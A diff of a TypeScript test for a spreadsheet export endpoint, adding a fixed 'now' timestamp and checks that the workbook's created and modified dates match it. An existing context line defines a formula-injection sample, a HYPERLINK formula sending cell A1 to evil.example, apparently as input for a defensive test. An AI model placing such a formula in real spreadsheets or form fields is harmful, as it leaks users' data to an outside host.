@@ -23,6 +23,7 @@ import { createApp } from './app.ts';
 const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
 const INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
 const MARCH = 'from=2026-03-01&to=2026-03-31';
+const NOW = '2026-03-10T03:00:00.000Z';
 
 let app: ReturnType<typeof createApp>;
 let central: string;
@@ -34,7 +35,7 @@ beforeAll(async () => {
   agency = await bearer({ sub: 'p1', agency: 'polri', role: 'agency_coordinator' });
   const store = await freshStore();
   // Tuesday 10 March 2026, 10:00 WIB.
-  const clock = manualClock('2026-03-10T03:00:00.000Z');
+  const clock = manualClock(NOW);
   app = createApp({ store, verifier, clock: clock.now });
   const service = new Service({ store, clock: clock.now });
   await addAgencies(service, [{ id: 'polri' }, { id: 'pln' }]);
@@ -67,6 +68,9 @@ async function workbookOf(res: Response) {
   const workbook = new ExcelJS.Workbook();
   await workbook.xlsx.load(await res.arrayBuffer());
   expect(workbook.worksheets).toHaveLength(1);
+  // Written at the API's "now" (the manual clock here), as Excel's properties show it.
+  expect(workbook.created).toEqual(new Date(NOW));
+  expect(workbook.modified).toEqual(new Date(NOW));
   return workbook.worksheets[0]!;
 }
 
